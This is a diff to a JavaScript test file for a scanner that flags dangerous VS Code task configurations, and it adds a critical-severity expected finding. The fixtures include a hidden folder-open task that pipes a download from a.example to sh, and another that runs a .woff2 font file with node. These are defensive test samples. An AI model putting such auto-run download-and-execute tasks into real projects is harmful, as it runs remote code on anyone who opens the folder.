@@ -17,6 +17,8 @@ describe('agentConfigFindings', () => {
     const hidden = titles('.vscode/tasks.json', '{ "tasks": [ { "label": "x", "command": "curl -s https://a.example/s | sh", "presentation": { "reveal": "never" }, "runOptions": { "runOn": "folderOpen" }, }, ] }');
     expect(hidden.findings.map((f) => [f.severity, f.title])).toEqual([
       ['MED', 'VS Code task runs hidden when the folder is opened'],
+      // Opening the folder runs it, hidden: the payload itself is CRIT (issue 24, fourth round).
+      ['CRIT', 'VS Code task downloads and runs code when the folder is opened'],
       ['HIGH', 'VS Code task run on folder open: downloads code from the network and runs it'],
     ]);
     const font = titles('.vscode/tasks.json', JSON.stringify({ tasks: [{ command: 'node public/fonts/a.woff2', runOptions: { runOn: 'folderOpen' } }] }));
